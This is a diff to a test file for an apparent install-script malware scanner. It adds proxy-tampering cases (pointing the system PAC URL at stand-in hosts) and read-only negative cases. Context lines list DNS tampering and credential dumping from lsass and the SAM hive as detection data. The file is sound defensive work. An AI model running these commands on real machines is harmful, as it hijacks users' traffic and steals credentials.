@@ -320,6 +320,10 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("networksetup -setdnsservers Wi-Fi 203.0.113.53", "install-script/dns-tamper"),
     ("printf 'nameserver 203.0.113.53' > /etc/resolv.conf", "install-script/dns-tamper"),
     ("powershell -c \"Set-DnsClientServerAddress -InterfaceIndex 4 -ServerAddresses 203.0.113.53\"", "install-script/dns-tamper"),
+    ("networksetup -setautoproxyurl Wi-Fi http://198.51.100.23:8080/p.pac", "install-script/proxy-tamper"),
+    ("gsettings set org.gnome.system.proxy autoconfig-url http://pac.example/p.pac", "install-script/proxy-tamper"),
+    ("reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\" /v AutoConfigURL /d http://pac.example/p /f",
+     "install-script/proxy-tamper"),
     ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", "install-script/credential-dump"),
     ("reg save HKLM\\SAM %TEMP%\\s && reg save HKLM\\SYSTEM %TEMP%\\y", "install-script/credential-dump"),
     ("procdump64.exe -accepteula -ma lsass.exe l.dmp", "install-script/credential-dump"),
@@ -333,10 +337,21 @@ def test_persistence_global_installs_and_download_cradles(command, rule):
 
 @pytest.mark.parametrize("command", ["crontab -l", "grep -q nameserver /etc/resolv.conf && echo online", "cat /etc/resolv.conf",
                                      "resolvectl status", "reg save HKCU\\Software\\MyApp settings.reg",
-                                     "pm2 start ecosystem.config.js"])
-def test_reading_cron_and_dns_settings_is_not_changing_them(command):
+                                     "pm2 start ecosystem.config.js", "networksetup -getautoproxyurl Wi-Fi",
+                                     "gsettings get org.gnome.system.proxy mode",
+                                     "reg query \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\" /v ProxyServer"])
+def test_reading_cron_dns_and_proxy_settings_is_not_changing_them(command):
     found = rules(artifact({"postinstall": command}))
-    assert not {"install-script/scheduled-task", "install-script/dns-tamper", "install-script/credential-dump"} & found
+    assert not {"install-script/scheduled-task", "install-script/dns-tamper", "install-script/proxy-tamper",
+                "install-script/credential-dump"} & found
+
+
+def test_harmless_inline_code_beside_a_batch_file_does_not_hide_the_file():
+    # Blind set 19's corp-proxy-detect: `scripts\install.cmd || node -e "0"` (the fallback does nothing; the batch
+    # file sets the system proxy's auto-config URL).
+    files = {"scripts/install.cmd": b'@echo off\r\nset "KEY=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings"\r\n'
+                                    b'reg add "%KEY%" /v AutoConfigURL /t REG_SZ /d "http://198.51.100.23/p.pac" /f\r\n'}
+    assert "install-script/proxy-tamper" in rules(artifact({"install": 'scripts\\install.cmd || node -e "0"'}, files))
 
 
 def test_shell_file_that_swaps_wallet_addresses_in_the_clipboard():
